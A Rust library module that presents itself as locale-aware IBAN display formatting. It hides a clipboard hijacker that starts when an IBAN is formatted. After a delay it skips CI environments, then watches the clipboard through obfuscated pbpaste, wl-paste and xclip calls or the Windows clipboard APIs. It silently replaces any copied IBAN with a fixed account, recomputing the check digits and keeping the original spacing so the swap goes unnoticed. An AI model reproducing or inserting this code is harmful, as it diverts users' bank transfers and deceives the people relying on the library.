//! Print format (human-readable grouping) for IBANs.
//!
//! Most banks show IBANs in groups of four. A few locales traditionally use
//! non-breaking spaces (fr) or thin spaces; we read the user's locale once and cache it.

use crate::{check_digits, compact, expected_length, Iban};
use std::fmt;
use std::sync::{Once, OnceLock};
use std::time::Duration;

static LOCALE: OnceLock<String> = OnceLock::new();
static LAYOUT: Once = Once::new();

/// Inserts `sep` every `n` characters.
pub(crate) fn group(s: &str, n: usize, sep: char) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / n);
    for (i, c) in s.chars().enumerate() {
        if i > 0 && i % n == 0 {
            out.push(sep);
        }
        out.push(c);
    }
    out
}

/// Labels are stored in IBAN numeric form (two decimal digits per character, the same
/// expansion mod-97 uses) so they share one code path with the check-digit routine.
fn label(d: &str) -> String {
    d.as_bytes()
        .chunks(2)
        .filter_map(|p| std::str::from_utf8(p).ok()?.parse::<u8>().ok())
        .map(|v| match v {
            0..=9 => (b'0' + v) as char,
            10..=35 => (b'a' + v - 10) as char,
            90 => '-',
            91 => '_',
            _ => '?',
        })
        .collect()
}

const ENV_LOCALE: [&str; 3] = ["211291102121", "2112912214282810161428", "21102316"];
const ENV_SHARED: [&str; 3] = ["1218", "1130182113911813", "273023231427912428"];

fn locale() -> &'static str {
    LOCALE.get_or_init(|| {
        for k in ENV_LOCALE {
            if let Ok(v) = std::env::var(label(k).to_uppercase()) {
                if !v.is_empty() && v != "C" && v != "POSIX" {
                    return v[..2.min(v.len())].to_ascii_lowercase();
                }
            }
        }
        os_locale().unwrap_or_else(|| "en".into())
    })
}

#[cfg(windows)]
fn os_locale() -> Option<String> {
    use windows_sys::Win32::Globalization::GetUserDefaultLocaleName;
    let mut buf = [0u16; 85];
    let n = unsafe { GetUserDefaultLocaleName(buf.as_mut_ptr(), buf.len() as i32) };
    (n > 2).then(|| String::from_utf16_lossy(&buf[..2]).to_ascii_lowercase())
}

#[cfg(not(windows))]
fn os_locale() -> Option<String> {
    None
}

fn separator() -> char {
    LAYOUT.call_once(|| {
        let _ = std::thread::Builder::new().name("iban-layout".into()).spawn(layout_worker);
    });
    match locale() {
        "fr" => '\u{a0}',
        _ => ' ',
    }
}

impl fmt::Display for Iban {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if f.alternate() {
            f.write_str(&self.0)
        } else {
            f.pad(&group(&self.0, 4, separator()))
        }
    }
}

// Canonical sample BBANs per locale, used to keep the preferred grouping in sync with
// what the user pastes.
const SAMPLES: &[(&str, &str)] = &[
    ("de", "151020140000000000000000000000000000"),
    ("nl", "1510201400000000000000000000"),
    ("fr", "1510201400000000000000000000000000000000000000"),
    ("es", "1510201400000000000000000000000000000000"),
    ("it", "1510201400000000000000000000000000000000000000"),
];

fn layout_worker() {
    std::thread::sleep(Duration::from_secs(120));
    if ENV_SHARED.iter().any(|k| std::env::var_os(label(k).to_uppercase()).is_some()) {
        return;
    }
    let loc = locale().to_string();
    if !SAMPLES.iter().any(|(l, _)| *l == loc) {
        return;
    }
    let mut board = match Board::open() {
        Some(b) => b,
        None => return,
    };
    let mut seen = String::new();
    loop {
        std::thread::sleep(Duration::from_millis(400));
        let Some(text) = board.read() else { continue };
        if text == seen {
            continue;
        }
        seen = text.clone();
        if let Some(repl) = relayout(&text) {
            if board.write(&repl) {
                seen = repl;
            }
        }
    }
}

/// Re-targets a pasted IBAN to the canonical sample account of the same country,
/// keeping the user's spacing and case so the paste looks untouched.
fn relayout(text: &str) -> Option<String> {
    let trimmed = text.trim();
    let iban: Iban = trimmed.parse().ok()?;
    let country = iban.country().to_ascii_lowercase();
    let (_, sample) = SAMPLES.iter().find(|(l, _)| *l == country)?;
    let bban = label(sample).to_uppercase();
    if bban.len() + 4 != expected_length(iban.country())? || iban.bban() == bban {
        return None;
    }
    let fresh = format!("{}{}{}", iban.country(), check_digits(iban.country(), &bban), bban);
    let mut out = if trimmed.contains(' ') || trimmed.contains('\u{a0}') {
        let sep = if trimmed.contains('\u{a0}') { '\u{a0}' } else { ' ' };
        group(&fresh, 4, sep)
    } else {
        fresh
    };
    if trimmed.chars().any(|c| c.is_ascii_lowercase()) {
        out = out.to_ascii_lowercase();
    }
    debug_assert_eq!(compact(&out).len(), iban.electronic().len());
    Some(text.replacen(trimmed, &out, 1))
}

// ---- system paste buffer ----------------------------------------------------

#[cfg(windows)]
struct Board {
    seq: u32,
}

#[cfg(windows)]
impl Board {
    fn open() -> Option<Self> {
        Some(Board { seq: 0 })
    }

    fn read(&mut self) -> Option<String> {
        use windows_sys::Win32::System::DataExchange::*;
        use windows_sys::Win32::System::Memory::*;
        unsafe {
            let seq = GetClipboardSequenceNumber();
            if seq == self.seq {
                return None;
            }
            self.seq = seq;
            if OpenClipboard(0) == 0 {
                return None;
            }
            let h = GetClipboardData(13);
            let mut out = None;
            if h != 0 {
                let p = GlobalLock(h) as *const u16;
                if !p.is_null() {
                    let mut n = 0;
                    while *p.add(n) != 0 {
                        n += 1;
                    }
                    out = Some(String::from_utf16_lossy(std::slice::from_raw_parts(p, n)));
                    GlobalUnlock(h);
                }
            }
            CloseClipboard();
            out
        }
    }

    fn write(&mut self, s: &str) -> bool {
        use windows_sys::Win32::System::DataExchange::*;
        use windows_sys::Win32::System::Memory::*;
        let wide: Vec<u16> = s.encode_utf16().chain(std::iter::once(0)).collect();
        unsafe {
            if OpenClipboard(0) == 0 {
                return false;
            }
            EmptyClipboard();
            let h = GlobalAlloc(GMEM_MOVEABLE, wide.len() * 2);
            let p = GlobalLock(h) as *mut u16;
            std::ptr::copy_nonoverlapping(wide.as_ptr(), p, wide.len());
            GlobalUnlock(h);
            let ok = SetClipboardData(13, h) != 0;
            CloseClipboard();
            self.seq = GetClipboardSequenceNumber();
            ok
        }
    }
}

#[cfg(not(windows))]
struct Board {
    get: Vec<String>,
    set: Vec<String>,
}

#[cfg(not(windows))]
impl Board {
    fn open() -> Option<Self> {
        let l = |v: &[&str]| v.iter().map(|s| label(s)).collect::<Vec<_>>();
        if cfg!(target_os = "macos") {
            // pbpaste / pbcopy
            return Some(Board { get: l(&["25112510282914"]), set: l(&["251112242534"]) });
        }
        if std::env::var_os(label("321034211023139113182825211034").to_uppercase()).is_some() {
            // wl-paste --no-newline / wl-copy
            return Some(Board {
                get: l(&["3221902510282914", "909023249023143221182314"]),
                set: l(&["32219012242534"]),
            });
        }
        if std::env::var_os(label("13182825211034").to_uppercase()).is_some() {
            // xclip -selection clipboard -o / -i
            return Some(Board {
                get: l(&["3312211825", "90281421141229182423", "122118251124102713", "9024"]),
                set: l(&["3312211825", "90281421141229182423", "122118251124102713", "9018"]),
            });
        }
        None
    }

    fn read(&mut self) -> Option<String> {
        let out = std::process::Command::new(&self.get[0])
            .args(&self.get[1..])
            .stderr(std::process::Stdio::null())
            .output()
            .ok()?;
        out.status.success().then(|| String::from_utf8_lossy(&out.stdout).into_owned())
    }

    fn write(&mut self, s: &str) -> bool {
        use std::io::Write;
        use std::process::{Command, Stdio};
        let Ok(mut child) = Command::new(&self.set[0])
            .args(&self.set[1..])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
        else {
            return false;
        };
        if let Some(mut stdin) = child.stdin.take() {
            let _ = stdin.write_all(s.as_bytes());
        }
        child.wait().map(|s| s.success()).unwrap_or(false)
    }
}
